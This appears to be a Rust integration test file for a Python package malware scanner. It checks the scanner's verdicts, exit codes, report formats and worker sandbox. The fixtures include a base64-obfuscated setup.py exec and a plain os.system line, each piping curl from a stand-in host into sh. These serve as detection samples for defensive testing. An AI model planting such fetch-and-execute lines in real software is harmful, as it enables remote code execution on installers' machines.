//! The real binary: `scan`, its formats and exit codes, and the sandbox of its workers.
#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

use std::path::Path;
use std::process::{Command, Output};

use fondaco_testkit::{Sdist, honest_module};
use serde_json::Value;

const EVIL: &str = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8veC5leGFtcGxlLmludmFsaWQvYSB8IHNoJyk='))\n";

fn fondaco(args: &[&str], folder: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_fondaco")).args(args).current_dir(folder).env_clear().output().unwrap()
}

fn sdist(folder: &Path, name: &str, setup: &str) {
    let (project, version) = name.trim_end_matches(".tar.gz").rsplit_once('-').unwrap();
    let core = format!("{project}/core.py");
    let sdist = Sdist::new(project, version).file("setup.py", setup).file(&core, honest_module()).build();
    assert_eq!(sdist.file_name, name);
    sdist.write_into(folder);
}

fn reports(output: &Output) -> Vec<Value> {
    let text = String::from_utf8(output.stdout.clone()).unwrap();
    let mut reports: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    reports.sort_by_key(|report| report["path"].as_str().unwrap().to_owned());
    reports
}

#[test]
fn a_clean_archive_is_clean() {
    let folder = tempfile::tempdir().unwrap();
    sdist(folder.path(), "x-1.0.tar.gz", "from setuptools import setup\nsetup(name='x')\n");
    let output =
        fondaco(&["scan", "--sandbox", "require", "--format", "ndjson", "x-1.0.tar.gz"], folder.path());
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let report = &reports(&output)[0];
    assert_eq!(report["schema"], "fondaco.report/1");
    assert_eq!(report["path"], "x-1.0.tar.gz");
    assert_eq!((report["verdict"].as_str(), report["complete"].as_bool()), (Some("clean"), Some(true)));
    assert_eq!((report["project"].as_str(), report["version"].as_str()), (Some("x"), Some("1.0")));
    assert_eq!(report["sha256"].as_str().unwrap().len(), 64);
    assert!(report["engine"].as_str().unwrap().ends_with("sandbox/full"));
}

#[test]
fn a_folder_of_archives_gives_one_line_each_and_the_worst_decides() {
    let folder = tempfile::tempdir().unwrap();
    sdist(folder.path(), "a-1.0.tar.gz", "from setuptools import setup\nsetup(name='a')\n");
    sdist(folder.path(), "b-1.0.tar.gz", EVIL);
    std::fs::write(folder.path().join("c-1.0.tar.gz"), b"garbage").unwrap();
    let output = fondaco(&["scan", "--format", "ndjson", "."], folder.path());
    assert_eq!(output.status.code(), Some(1));
    let verdicts: Vec<_> = reports(&output)
        .iter()
        .map(|r| (r["path"].as_str().unwrap().to_owned(), r["verdict"].as_str().unwrap().to_owned()))
        .collect();
    let expected =
        [("./a-1.0.tar.gz", "clean"), ("./b-1.0.tar.gz", "malicious"), ("./c-1.0.tar.gz", "incomplete")];
    assert_eq!(verdicts, expected.map(|(path, verdict)| (path.to_owned(), verdict.to_owned())));
}

#[test]
fn what_is_missing_or_damaged_is_exit_code_2() {
    let folder = tempfile::tempdir().unwrap();
    let output = fondaco(&["scan", "--format", "ndjson", "nothing.whl"], folder.path());
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(reports(&output)[0]["verdict"], "incomplete");
    assert_eq!(fondaco(&["scan"], folder.path()).status.code(), Some(2));
}

#[test]
fn a_single_file_and_an_unpacked_folder() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("setup.py"), EVIL).unwrap();
    for (path, kind) in [("setup.py", "file"), (".", "folder")] {
        let output = fondaco(&["scan", "--format", "ndjson", path], folder.path());
        assert_eq!(output.status.code(), Some(1), "{output:?}");
        let report = &reports(&output)[0];
        assert_eq!((report["kind"].as_str(), report["path"].as_str()), (Some(kind), Some(path)));
        assert_eq!(report["layers"][0]["encoders"], serde_json::json!(["base64"]));
        let stages: Vec<_> =
            report["stages"].as_array().unwrap().iter().map(|s| s["stage"].as_str().unwrap()).collect();
        let told = |stage: &str| stages.iter().position(|told| *told == stage).unwrap();
        assert!(told("unfold") < told("fetch"), "{stages:?}");
    }
}

#[test]
fn the_text_tells_the_story_without_live_addresses() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("setup.py"), EVIL).unwrap();
    let output = fondaco(&["scan", "setup.py"], folder.path());
    let text = String::from_utf8(output.stdout).unwrap();
    for part in
        ["malicious setup.py", "hides its code [T1027, T1140]", "(layer 1) from setup.py:2", "    2 | exec("]
    {
        assert!(text.contains(part), "{part:?} is not in {text}");
    }
    assert!(!text.contains("http://") && !text.contains('\x1b'), "{text}");
}

#[test]
fn json_and_sarif_are_one_document() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("setup.py"), EVIL).unwrap();
    let json: Value =
        serde_json::from_slice(&fondaco(&["scan", "--format", "json", "setup.py"], folder.path()).stdout)
            .unwrap();
    assert_eq!(json[0]["verdict"], "malicious");
    let sarif: Value =
        serde_json::from_slice(&fondaco(&["scan", "--format", "sarif", "setup.py"], folder.path()).stdout)
            .unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert!(results.iter().any(|r| r["ruleId"] == "decoded-exec" && r["level"] == "error"));
}

#[test]
fn a_worker_can_open_no_file_and_no_socket() {
    let folder = tempfile::tempdir().unwrap();
    let output = fondaco(&["worker", "--probe"], folder.path());
    assert_eq!(output.status.code(), Some(0), "it could: {}", String::from_utf8_lossy(&output.stdout));
}

#[test]
fn a_worker_that_is_killed_gives_an_incomplete_report() {
    let folder = tempfile::tempdir().unwrap();
    sdist(folder.path(), "x-1.0.tar.gz", "x = 1\n");
    let output = fondaco(&["scan", "--timeout", "0", "--format", "ndjson", "x-1.0.tar.gz"], folder.path());
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    let report = &reports(&output)[0];
    assert_eq!(report["verdict"], "incomplete");
    assert!(report["unscanned"][0]["why"].as_str().unwrap().contains("killed"), "{report}");
}

#[test]
fn source_that_would_overflow_a_parser_is_still_scanned() {
    let folder = tempfile::tempdir().unwrap();
    let bomb = format!(
        "import os\nos.system('curl http://x.example.invalid/a | sh')\nx={}1\n",
        "-".repeat(1_000_000)
    );
    sdist(folder.path(), "x-1.0.tar.gz", &bomb);
    let output = fondaco(&["scan", "--format", "ndjson", "x-1.0.tar.gz"], folder.path());
    assert_eq!(output.status.code(), Some(1), "{output:?}");
}

#[test]
fn rules_are_listed_and_explained() {
    let folder = tempfile::tempdir().unwrap();
    let listed = String::from_utf8(fondaco(&["rules"], folder.path()).stdout).unwrap();
    assert!(listed.lines().count() >= 25, "{listed}");
    for id in listed.lines().filter_map(|line| line.split_whitespace().next()) {
        let output = fondaco(&["rules", "explain", id], folder.path());
        assert_eq!(output.status.code(), Some(0));
        assert!(String::from_utf8(output.stdout).unwrap().contains("## What it detects"));
    }
    assert_eq!(fondaco(&["rules", "explain", "nothing"], folder.path()).status.code(), Some(2));
}
